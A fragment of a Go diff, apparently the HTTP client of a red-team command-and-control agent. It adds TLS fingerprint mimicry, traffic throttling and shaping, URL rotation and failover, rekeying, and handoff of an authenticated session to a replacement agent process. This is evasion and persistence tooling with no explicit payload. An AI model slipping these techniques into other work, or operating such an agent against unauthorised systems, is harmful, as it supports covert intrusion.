 		ja3String := strings.Trim(value, "\"'")
-		client.Client, err = getClient(client.Protocol, client.Proxy, ja3String, client.Parrot, client.insecureTLS)
+		client.Client, err = getClient(client.Protocol, client.Proxy, ja3String, client.Parrot, client.insecureTLS, client.pins, client.shaping, client.ech)
 		if ja3String != "" {
 			cli.Message(cli.NOTE, fmt.Sprintf("Set agent JA3 signature to:%s", ja3String))
 		} else if ja3String == "" {
@@ -630,17 +906,55 @@ func (client *Client) Set(key string, value string) (err error) {
 		client.JWT = value
 	case "parrot":
 		parrot := strings.Trim(value, "\"'")
-		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, parrot, client.insecureTLS)
+		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, parrot, client.insecureTLS, client.pins, client.shaping, client.ech)
 		if parrot != "" {
 			cli.Message(cli.NOTE, fmt.Sprintf("Set agent HTTP transport parrot to:%s", parrot))
 		} else if parrot == "" {
 			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
 		}
 		client.Parrot = parrot
-	case "paddingmax":
-		client.PaddingMax, err = strconv.Atoi(value)
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "refresh":
+		// The host's network changed; rebuild the client to re-read the proxy settings and drop pooled connections
+		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot, client.insecureTLS, client.pins, client.shaping, client.ech)
+		// Go back to the primary URL in case it is reachable from the new network
+		if client.rotation.strategy == FAILOVER {
+			client.currentURL = 0
+		}
+		if client.endpoints != nil {
+			client.endpoints.Reset()
+		}
+		// Race the URLs again from the new network
+		client.raced = false
+		cli.Message(cli.NOTE, fmt.Sprintf("Refreshed the %s client after a network change", client.Protocol))
+	case "rotation":
+		var r rotation
+		r, err = parseRotation(value)
+		if err != nil {
+			return
+		}
+		client.rotation = r
+		client.raced = false
+		cli.Message(cli.NOTE, fmt.Sprintf("Set agent URL rotation strategy to: %s", client.rotation))
+	case "backup":
+		if client.endpoints == nil {
+			err = fmt.Errorf("clients/http.Set(): the client does not have any URLs")
+			return
+		}
+		err = client.endpoints.Set(value)
+		if err == nil {
+			cli.Message(cli.NOTE, fmt.Sprintf("Set agent backup URL promotion and primary retry to: %s", client.endpoints))
+		}
+	case "psk":
+		// The PSK, or ordered list of them, is replaced along with the secret derived from it so the next
+		// authentication uses the new PSK
+		client.psks = heap.NewSecrets(clients.PSKs(value))
+		client.psk = client.psks[0]
+		k := sha256.Sum256(client.psk.Open())
+		client.secret = heap.NewSecret(k[:])
 	case "secret":
-		client.secret = []byte(value)
+		client.secret = heap.NewSecret([]byte(value))
 	default:
 		err = fmt.Errorf("unknown http client setting: %s", key)
 	}
@@ -654,12 +968,22 @@ func (client *Client) Get(key string) (value string) {
 	switch strings.ToLower(key) {
 	case "ja3":
 		value = client.JA3
-	case "paddingmax":
-		value = strconv.Itoa(client.PaddingMax)
+	case "throttle":
+		value = strconv.Itoa(client.throttle.Rate())
 	case "parrot":
 		value = client.Parrot
 	case "protocol":
 		value = client.Protocol
+	case "rotation":
+		value = client.rotation.String()
+	case "backup":
+		if client.endpoints != nil {
+			value = client.endpoints.String()
+		}
+	case "endpoints":
+		if client.endpoints != nil {
+			value = client.endpoints.Status()
+		}
 	default:
 		value = fmt.Sprintf("unknown client configuration setting: %s", key)
 	}
@@ -673,8 +997,10 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 	client.authenticated = false
 	var authenticated bool
 	// Reset the Agent's PSK
-	k := sha256.Sum256([]byte(client.psk))
-	client.secret = k[:]
+	k := sha256.Sum256(client.psk.Open())
+	client.Lock()
+	client.secret = heap.NewSecret(k[:])
+	client.Unlock()
 
 	// Add Agent generated JWT from Agent's PSK
 	client.JWT, err = client.getJWT()
@@ -682,6 +1008,18 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 		return
 	}
 
+	// Agree on an ephemeral pre-authentication secret so that the PSK alone can't decrypt the authentication messages
+	if prekey.Enabled() {
+		var secret []byte
+		secret, err = prekey.Agree(client.AgentID, client.Send, string(client.psk.Open()))
+		if err != nil {
+			return
+		}
+		client.Lock()
+		client.secret = heap.NewSecret(secret)
+		client.Unlock()
+	}
+
 	// Repeat until authenticator is complete and Agent is authenticated
 	for {
 		msg, authenticated, err = client.Authenticator.Authenticate(msg)
@@ -695,7 +1033,9 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 
 		// Once authenticated, update the client's secret used to encrypt messages
 		if authenticated {
+			client.Lock()
 			client.authenticated = true
+			client.Unlock()
 			p2p.NewP2PService().Refresh()
 			var key []byte
 			key, err = client.Authenticator.Secret()
@@ -704,7 +1044,10 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 			}
 			// Don't update the secret if the authenticator returned an empty key
 			if len(key) > 0 {
-				client.secret = key
+				client.Lock()
+				client.secret = heap.NewSecret(key)
+				client.rekey.Reset()
+				client.Unlock()
 			}
 		}
 
@@ -730,21 +1073,39 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 // Construct takes in a messages.Base structure that is ready to be sent to the server and runs all the configured transforms
 // on it to encode and encrypt it. Transforms will go from last in the slice to first in the slice
 func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
+	// Replace the secret with the next one derived from it when the rekey schedule is due
+	client.Lock()
+	secret := client.secret.Open()
+	if client.authenticated {
+		secret, err = client.rekey.Next(secret)
+		if err != nil {
+			client.Unlock()
+			return nil, fmt.Errorf("clients/http.Construct(): %s", err)
+		}
+		client.secret = heap.NewSecret(secret)
+	}
+	client.Unlock()
+	index, prefix := transformer.Pick(len(client.transformers))
+	transformers := client.transformers[index]
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Construct(): entering into function with message: %+v", msg))
-	cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Construct(): Transformers: %+v", client.transformers))
-	for i := len(client.transformers); i > 0; i-- {
-		if i == len(client.transformers) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Construct(): Transformers: %+v", transformers))
+	for i := len(transformers); i > 0; i-- {
+		if i == len(transformers) {
 			// The first call should always take a Base message
-			data, err = client.transformers[i-1].Construct(msg, client.secret)
-			cli.Message(cli.DEBUG, fmt.Sprintf("%d call with transform %s - Constructed data(%d) %T: %X\n", i, client.transformers[i-1], len(data), data, data))
+			data, err = transformers[i-1].Construct(msg, secret)
+			cli.Message(cli.DEBUG, fmt.Sprintf("%d call with transform %s - Constructed data(%d) %T: %X\n", i, transformers[i-1], len(data), data, data))
 		} else {
-			data, err = client.transformers[i-1].Construct(data, client.secret)
-			cli.Message(cli.DEBUG, fmt.Sprintf("%d call with transform %s - Constructed data(%d) %T: %X\n", i, client.transformers[i-1], len(data), data, data))
+			data, err = transformers[i-1].Construct(data, secret)
+			cli.Message(cli.DEBUG, fmt.Sprintf("%d call with transform %s - Constructed data(%d) %T: %X\n", i, transformers[i-1], len(data), data, data))
 		}
 		if err != nil {
 			return nil, fmt.Errorf("clients/http.Construct(): there was an error calling the transformer construct function: %s", err)
 		}
 	}
+	// The prefix identifies the transformer chain to the server when there is more than one
+	if prefix != nil {
+		data = append(prefix, data...)
+	}
 	return
 }
 
@@ -753,20 +1114,40 @@ func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
 func (client *Client) Deconstruct(data []byte) (messages.Base, error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/http.Deconstruct(): entering into function with message: %+v", data))
 
-	for _, transform := range client.transformers {
+	index, data, err := transformer.Identify(data, len(client.transformers))
+	if err != nil {
+		return messages.Base{}, fmt.Errorf("clients/http.Deconstruct(): %s", err)
+	}
+	client.Lock()
+	secret, previous, psks := client.secret.Open(), client.rekey.Previous(), client.psks
+	client.Unlock()
+	for _, transform := range client.transformers[index] {
 		//fmt.Printf("Transformer %T: %+v\n", transform, transform)
-		ret, err := transform.Deconstruct(data, client.secret)
+		ret, err := transform.Deconstruct(data, secret)
+		if err != nil && previous != nil {
+			// The server may have constructed the message before it followed the Agent to its latest secret
+			ret, err = transform.Deconstruct(data, previous)
+		}
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("clients/http.Deconstruct(): unable to deconstruct with Agent's secret, retrying with PSK"))
-			// Try to see if the PSK works
-			k := sha256.Sum256([]byte(client.psk))
-			ret, err = transform.Deconstruct(data, k[:])
+			cli.Message(cli.WARN, fmt.Sprintf("clients/http.Deconstruct(): unable to deconstruct with Agent's secret, retrying with the PSKs"))
+			// Try each PSK in order and keep the first one that works
+			for _, p := range psks {
+				k := sha256.Sum256(p.Open())
+				ret, err = transform.Deconstruct(data, k[:])
+				if err == nil {
+					// If a PSK worked, assume the agent is unauthenticated to the server
+					secret = k[:]
+					client.Lock()
+					client.authenticated = false
+					client.psk = p
+					client.secret = heap.NewSecret(secret)
+					client.Unlock()
+					break
+				}
+			}
 			if err != nil {
 				return messages.Base{}, err
 			}
-			// If the PSK worked, assume the agent is unauthenticated to the server
-			client.authenticated = false
-			client.secret = k[:]
 		}
 		switch ret.(type) {
 		case []uint8:
@@ -791,6 +1172,30 @@ func (client *Client) Initial() (err error) {
 	return client.Authenticate(messages.Base{})
 }
 
+// Session returns the client's authenticated session so that it can be handed to a new Agent process
+func (client *Client) Session() (clients.Session, error) {
+	client.Lock()
+	defer client.Unlock()
+	if !client.authenticated {
+		return clients.Session{}, fmt.Errorf("clients/http.Session(): the client has not authenticated")
+	}
+	return clients.Session{Secret: client.secret.Open(), Token: client.JWT}, nil
+}
+
+// Resume continues the session an Agent process this one replaced had authenticated
+func (client *Client) Resume(session clients.Session) error {
+	if len(session.Secret) == 0 {
+		return fmt.Errorf("clients/http.Resume(): the session does not have a secret")
+	}
+	client.Lock()
+	defer client.Unlock()
+	client.secret = heap.NewSecret(session.Secret)
+	client.JWT = session.Token
+	client.authenticated = true
+	client.rekey.Reset()
+	return nil
+}
+
 // Synchronous identifies if the client connection is synchronous or asynchronous, used to determine how and when messages
 // can be sent/received.
 func (client *Client) Synchronous() bool {